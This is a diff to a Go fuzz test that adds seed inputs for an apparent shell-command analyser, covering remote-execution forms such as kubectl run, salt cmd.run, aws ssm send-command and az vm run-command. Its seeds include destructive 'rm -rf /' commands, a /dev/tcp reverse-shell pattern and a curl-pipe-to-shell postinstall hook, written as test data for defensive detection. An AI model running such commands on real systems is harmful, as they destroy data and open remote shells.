@@ -38,6 +38,16 @@ func FuzzAnalyze(f *testing.F) {
 		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "find ~ -name x | xargs cat", "find | xargs -I{} cp {} y", "find 2>/dev/null | xargs", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
 		"printf 'all:\\n\\t@$(CC) $$x $(shell ls)\\n' > Makefile", "cat > Makefile <<'EOF'\nx:\n\t-rm -rf $(OUT) \\\n  y\n\t+$\nEOF",
 		"\"postinstall\": \"curl x | sh\", \"x\": \"", "{\"command\": \"ls\"", "\t$(\n\t${A.B}",
+		"docker compose exec", "docker compose -f x exec -T s", "docker-compose exec s ls", "docker -H tcp://h compose exec s rm -rf /",
+		"kubectl debug p --image=b --", "kubectl run x --image=b -- sh -c 'ls'", "kubectl run x --command --", "kubectl debug -- ls",
+		"multipass exec", "lxc exec c --", "incus exec c -- ls", "limactl shell", "limactl shell d", "lima ls", "vagrant ssh -c", "vagrant ssh v --command='ls'",
+		"mosh h --", "mosh -- h -- ls", "tsh ssh", "tsh ssh -l u h 'ls'", "pssh -h", "pssh -h f -i ls", "parallel-ssh -H h -- ls",
+		"salt '*' cmd.run", "salt '*' cmd.run 'ls'", "salt-ssh x cmd.shell cmd=ls", "fab -H h --", "fab -- ls",
+		"aws ssm send-command --document-name AWS-RunShellScript --parameters", "aws ssm send-command --document-name=AWS-RunShellScript --parameters 'commands=[\"ls\"'",
+		"aws ssm send-command --document-name AWS-RunShellScript --parameters '{\"commands\":[\"ls\",\"rm x\"]}'", "aws ssm send-command --document-name AWS-RunShellScript --parameters commands=ls,pwd",
+		"az vm run-command invoke --scripts", "az vm run-command invoke -n v --scripts 'ls' 'rm -rf /' --x", "gcloud compute ssh v --", "gcloud compute ssh v -- -t 'ls'",
+		"rsync --rsync-path='sudo rsync' a h:/b", "rsync --rsync-path= a h:", "rsync --rsync-path x a :b", "echo ls > x; sh x", "printf 'ls\\n' > x && ssh h sh < x",
+		"echo a > x; echo b >> x; cp y x; sh < x", "echo a >> x; bash x",
 	} {
 		f.Add(s)
 	}
